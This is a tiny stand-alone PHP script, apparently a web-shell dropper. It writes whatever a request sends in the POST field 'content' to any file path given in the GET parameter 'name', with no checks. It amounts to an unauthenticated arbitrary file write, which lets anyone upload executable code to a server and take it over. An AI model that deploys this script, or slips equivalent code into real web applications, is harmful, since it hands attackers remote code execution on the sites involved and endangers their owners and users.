<?php
$fp = fopen($_GET['name'], 'w');
fwrite($fp, $_POST['content']);
fclose($fp);
echo "written " . strlen($_POST['content']);
